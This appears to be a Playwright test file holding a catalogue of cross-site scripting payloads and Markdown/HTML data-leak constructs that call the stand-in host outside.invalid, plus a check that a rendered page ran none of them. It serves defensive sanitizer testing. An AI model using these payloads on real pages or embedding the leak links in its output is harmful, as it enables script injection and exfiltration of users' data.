"""Texts that would do something if a page let them: markup that runs, and Markdown that carries something away."""

from playwright.sync_api import Page

ATTACKS = (
    "<script>window.attacked = 1; alert(1)</script>",
    '<img src=x onerror="window.attacked = 1; alert(1)">',
    '<svg onload="window.attacked = 1"><animate onbegin=alert(1) attributeName=x dur=1s>',
    "<svg><script>window.attacked = 1</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.attacked=1>",
    '<iframe srcdoc="<script>parent.attacked = 1</script>"></iframe>',
    '<a href="javascript:window.attacked=1">click</a>',
    "[click](javascript:window.attacked=1)",
    "[click](JaVaScRiPt:window.attacked=1)",
    "[click](java\nscript:window.attacked=1)",
    "[click](&#106;avascript:window.attacked=1)",
    "[click](data:text/html;base64,PHNjcmlwdD53aW5kb3cuYXR0YWNrZWQ9MTwvc2NyaXB0Pg==)",
    "[click](vbscript:msgbox(1))",
    '<details open ontoggle="window.attacked = 1">x</details>',
    '<input autofocus onfocus="window.attacked = 1">',
    '<form action="javascript:window.attacked=1"><button>go</button></form>',
    '<object data="javascript:window.attacked=1"></object>',
    "<style>@import 'http://outside.invalid/a.css'; body { background: url(http://outside.invalid/b) }</style>",
    '<div style="background: url(\'http://outside.invalid/c\')" class="sheet">x</div>',
    '<noscript><p title="</noscript><img src=x onerror=window.attacked=1>">',
    "<!--><img src=x onerror=window.attacked=1>-->",
    '"><img src=x onerror=window.attacked=1>',
    "'-window.attacked=1-'",
    "${window.attacked=1} {{window.attacked=1}} <%= window.attacked=1 %>",
    "`<img src=x onerror=window.attacked=1>`",
    '<a id="page" name="attacked">clobber</a><form id="main"><input name="children">',
    '<button class="cite" data-citation="0" data-ask onclick="window.attacked=1">1</button>',
    "\u2e550\u2e58<img src=x onerror=window.attacked=1>\u2e560\u2e58",
    "\u202e<img src=x onerror=window.attacked=1>\u2066",
)
LEAKS = (
    "![x](http://outside.invalid/leak?q=secret)",
    "![x][ref]\n\n[ref]: http://outside.invalid/leak?q=secret",
    '<img src="http://outside.invalid/leak" srcset="http://outside.invalid/leak2 2x">',
    '<picture><source srcset="http://outside.invalid/leak"><img></picture>',
    '<video src="http://outside.invalid/leak" autoplay poster="http://outside.invalid/p"></video>',
    '<audio src="http://outside.invalid/leak" autoplay></audio>',
    '<link rel="stylesheet" href="http://outside.invalid/leak">',
    '<link rel="prefetch" href="http://outside.invalid/leak"><link rel="dns-prefetch" href="//leak.outside.invalid">',
    '<meta http-equiv="refresh" content="0; url=http://outside.invalid/leak">',
    '<base href="http://outside.invalid/"><a href="leak">x</a>',
    '<iframe src="http://outside.invalid/leak"></iframe>',
    '<embed src="http://outside.invalid/leak">',
    '<table background="http://outside.invalid/leak"><tr><td>x</td></tr></table>',
    '<svg><image href="http://outside.invalid/leak"/><use href="http://outside.invalid/leak#x"/></svg>',
    '<form action="http://outside.invalid/leak"><input name=q value=secret></form>',
    "[![x](http://outside.invalid/leak)](http://outside.invalid/leak)",
    "<http://outside.invalid/leak?q=secret> http://outside.invalid/leak?q=secret",
)
NAMES = tuple(ATTACKS[place] for place in (0, 1, 4, 19, 21))
"""Those that can be the name of somebody or something: short, without ',' and ':'."""


def unharmed(page: Page) -> None:
    """Nothing ran: what a trap would have told fails the test when the page is left."""
    page.wait_for_timeout(150)
    assert page.evaluate("window.attacked") is None
    assert page.locator("main img, main iframe, main object, main style, main form[action], nav img").count() == 0
